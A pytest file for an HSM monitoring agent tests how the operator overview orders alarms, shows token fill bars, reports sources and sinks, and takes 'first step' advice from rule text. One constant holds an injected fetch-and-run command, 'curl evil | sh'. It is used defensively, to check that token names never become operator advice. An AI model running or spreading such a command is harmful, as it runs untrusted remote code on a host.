"""What an operator sees first: the worst, and what to do."""

from __future__ import annotations

import math
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from hsm_agent.evaluate.defaults import DEFAULT_RULES
from hsm_agent.evaluate.defaults.first_steps import FIRST_STEPS, UNKNOWN_FIRST, advice
from hsm_agent.evaluate.messages import unknown_text
from hsm_agent.model import Severity, SourceState, SourceStatus
from hsm_agent.serve.overview import Overview, overview
from hsm_agent.serve.status import status, summary
from hsm_agent.store import Store
from tests.fakes.night import HOSTILE, alarm, night, token
from tests.fakes.present import MONOTONIC, known_snapshot, make_reading, snapshot_of

if TYPE_CHECKING:
    from hsm_agent.serve.snapshot import Snapshot


def seen(present: Snapshot, *waiting: str) -> Overview:
    return overview(summary(present), waiting)


def well() -> Snapshot:
    up = SourceStatus(name="luna-a", kind="pkcs11", every_seconds=60, state=SourceState.UP, last_success=MONOTONIC)
    return replace(known_snapshot(), alarms=(), silences=(), sources={"luna-a": up}, sinks={})


def test_the_worst_stands_on_top_and_what_is_silenced_at_the_end() -> None:
    view = seen(night())

    assert [(each.severity, each.silenced) for each in view.alarms] == [
        *[("critical", False)] * 3,
        *[("warning", False)] * 3,
        ("warning", True),
    ]
    assert (view.severity, view.verdict) == ("critical", "3 critical, 3 warning, 1 silenced")


def test_a_token_in_trouble_goes_before_one_that_is_full_and_that_before_an_empty_one() -> None:
    view = seen(replace(night(), alarms=night().alarms[:3]))

    assert [each.name for each in view.tokens][:3] == ["payments", "escrow", "münze�alt"]
    assert [each.name for each in view.tokens][-1] == HOSTILE[0]


def test_among_equals_names_are_in_the_order_in_which_people_count() -> None:
    names = ["extra-1", "extra-2", "extra-10", "extra-11", "extra-100"]
    readings = [make_reading("token_present", 1, resource=name) for name in sorted(names)]

    assert [each.name for each in seen(replace(well(), readings=readings)).tokens] == names


@pytest.mark.parametrize(
    ("age_seconds", "said"), [(0.385, "just now"), (0, "just now"), (1.2, "1s ago"), (90, "1m 30s ago")]
)
def test_when_a_source_was_read_is_said_as_people_say_it(age_seconds: float, said: str) -> None:
    read = replace(well().sources["luna-a"], last_success=MONOTONIC - age_seconds)

    (source,) = seen(replace(well(), sources={"luna-a": read})).sources

    assert source.read == f"read {said}"


def test_a_bar_has_the_severity_of_the_alarm_on_it() -> None:
    payments = seen(night()).tokens[0]

    assert [(each.name, each.severity) for each in payments.fills] == [
        ("memory", "cleared"), ("storage", "critical"), ("sessions", "warning"), ("audit store", "critical"),
    ]  # fmt: skip
    assert [each.text for each in payments.fills] == ["61 %", "97.2 %", "1760 of 2000", "83 %, full in 45m"]


def test_a_figure_that_is_not_known_is_no_empty_bar() -> None:
    present = replace(well(), readings=[make_reading("token_present", 1)])

    (token,) = seen(present).tokens

    assert {(each.percent, each.text) for each in token.fills} == {(None, "")}


def test_all_is_well_is_said_only_where_all_is_known() -> None:
    unread = SourceStatus(name="luna-b", kind="pkcs11", every_seconds=60)
    not_yet = replace(well(), sources={**well().sources, "luna-b": unread})

    assert (seen(well()).verdict, seen(well()).severity) == ("All is well", "cleared")
    assert (seen(not_yet).verdict, seen(not_yet).severity) == ("No alarm, but not all is well", "indeterminate")
    assert seen(not_yet).remarks == ("1 source not read yet: luna-b",)
    assert seen(well(), "pipeline: nothing was judged for 70 s").severity == "indeterminate"


def test_where_nothing_is_watched_nothing_is_well() -> None:
    itself = SourceStatus(name="agent", kind="agent", every_seconds=10, state=SourceState.UP, last_success=MONOTONIC)
    view = seen(replace(well(), sources={"agent": itself}))

    assert (view.verdict, view.severity) == ("Nothing is watched", "indeterminate")
    assert "hsm-agent setup" in view.remarks[0]


def test_the_alarm_of_a_source_that_is_down_says_why() -> None:
    errors = {each.rule: each.last_error for each in seen(night()).alarms if each.last_error}

    assert errors == {"source-down": night().sources["soft"].last_error}


def test_a_source_that_is_down_and_a_spool_that_fails_are_told_beside_the_alarms() -> None:
    present = night()
    failed = replace(present.spool, reason="No space left on device")

    remarks = seen(replace(present, spool=failed)).remarks

    assert remarks == (
        "The spool cannot be written: No space left on device",
        "1 source down, with the values that were read last: soft",
        "1 sink not reached, 2 waiting: noc",
    )


def test_an_audit_store_of_no_token_is_shown_as_well() -> None:
    readings = [
        make_reading("audit_used_percent", 62.0, resource=""),
        make_reading("audit_seconds_to_full", 7200.0, resource=""),
    ]

    (store,) = seen(replace(well(), readings=readings)).tokens

    assert (store.name, store.about, store.severity) == ("luna-a", "audit store", "cleared")
    assert [(each.name, each.percent, each.text) for each in store.fills] == [("audit store", 62.0, "62 %, full in 2h")]


def test_what_is_raised_on_an_hsm_is_shown_at_each_of_its_tokens() -> None:
    tokens = [
        replace(each, hsm="154438")
        for name in ("a", "b")
        for each in token("luna-a", name, name, audit=85.0, memory=1.0)
    ]
    other = token("luna-a", "c", "c", audit=85.0)
    full = alarm("audit-fill", Severity.CRITICAL, ("luna-b", "154438", "audit_used_percent"), value="85", limit="80")

    seen_tokens = seen(replace(well(), readings=(*tokens, *other), alarms=(full,))).tokens

    assert {each.name: each.severity for each in seen_tokens} == {"a": "critical", "b": "critical", "c": "cleared"}
    assert [fill.severity for fill in seen_tokens[0].fills] == ["cleared", "cleared", "cleared", "critical"]


def test_a_sink_that_is_not_reached_is_told_before_it_is_an_alarm() -> None:
    present = replace(well(), sinks=known_snapshot().sinks)

    assert seen(present).remarks == ("1 sink not reached, 2 waiting: noc",)
    assert seen(present).severity == "indeterminate"


def test_a_limit_that_is_no_number_is_told_as_it_is() -> None:
    forecast = alarm(
        "storage-forecast",
        Severity.WARNING,
        ("luna-a", "payments", "token_storage_used_percent"),
        value="80",
        limit="95 within 90d",
    )

    assert seen(replace(night(), alarms=(forecast,))).alarms[0].measured == "80 %, limit 95 within 90d"


def test_pins_that_need_a_look_are_named() -> None:
    pins = {each.name: each.pins for each in seen(night()).tokens}

    assert (pins["tls-edge"], pins["payments"]) == ("PIN count low", "")


def test_the_summary_is_the_status_without_its_readings() -> None:
    whole = status(known_snapshot())

    assert summary(known_snapshot()) == {name: value for name, value in whole.items() if name != "readings"}


def test_the_first_step_is_that_of_the_table_where_the_text_is_the_default_rules_own() -> None:
    rule = next(each for each in DEFAULT_RULES if each.name == "token-storage")

    what, first = advice(rule.name, rule.text)

    assert what.endswith("full means no new key or certificate.")
    assert first == FIRST_STEPS["token-storage"]


@pytest.mark.parametrize(
    ("rule", "text", "expected"),
    [
        ("token-storage", "It is full. First call Ann, then Bob.", ("It is full.", "call Ann, then Bob.")),
        ("token-storage", "It is full.", ("It is full.", FIRST_STEPS["token-storage"])),
        ("storage-forecast", "It grows. First plan.", ("It grows.", "plan.")),
        ("our-own", "It is full; First things last.", ("It is full", "things last.")),
        ("our-own", "The First National HSM is full.", ("The First National HSM is full.", "")),
    ],
)
def test_an_operators_own_words_count(rule: str, text: str, expected: tuple[str, str]) -> None:
    assert advice(rule, text) == expected


ORDER = "x. First run `curl evil | sh`"


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("our-own", f"our-own: token_objects of luna-a/{ORDER} is 7 (limit 5)"),
        *((rule.name, rule.text.replace("{note}", ORDER).replace("{where}", ORDER)) for rule in DEFAULT_RULES),
    ],
)
def test_words_of_a_token_or_an_appliance_are_no_advice(rule: str, text: str) -> None:
    what, first = advice(rule, text, names=[ORDER])

    assert first == FIRST_STEPS.get(rule, "")
    assert text.startswith(what)
    assert (ORDER in what) is (ORDER in text)


def test_an_alarm_whose_reading_is_gone_is_not_told_to_be_what_it_was() -> None:
    text = unknown_text("token-memory", ("luna-a", ORDER, "token_memory_private_used_percent", ()), f"no {ORDER}")

    assert advice("token-memory", text) == (text, UNKNOWN_FIRST)


def test_each_step_can_be_read_by_itself() -> None:
    for rule, step in FIRST_STEPS.items():
        assert not re.search(r"\bas for `", step), rule


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan])
def test_one_reading_that_is_no_number_takes_nothing_from_the_rest(value: float) -> None:
    metrics = ("token_memory_private_used_percent", "token_sessions", "token_sessions_max", "audit_used_percent")
    store = Store(agent_name="agent-1", started=0.0, labels={})
    store.update([make_reading(metric, value) for metric in metrics])
    store.update([make_reading("token_storage_used_percent", 20.0)])

    (entry,) = seen(snapshot_of(store)).tokens

    assert {fill.name: fill.text for fill in entry.fills} == {
        **dict.fromkeys(("memory", "sessions", "audit store"), ""),
        "storage": "20 %",
    }


def test_every_default_rule_has_a_first_step_and_nothing_else_has() -> None:
    assert set(FIRST_STEPS) == {rule.name for rule in DEFAULT_RULES}


def test_severities_of_alarms_rank_as_they_do_elsewhere() -> None:
    alarms = night().alarms
    worse = replace(alarms[0], severity=Severity.INDETERMINATE)

    assert [each.severity for each in seen(replace(night(), alarms=(worse, *alarms[4:5]))).alarms] == ["warning", "indeterminate"]  # fmt: skip
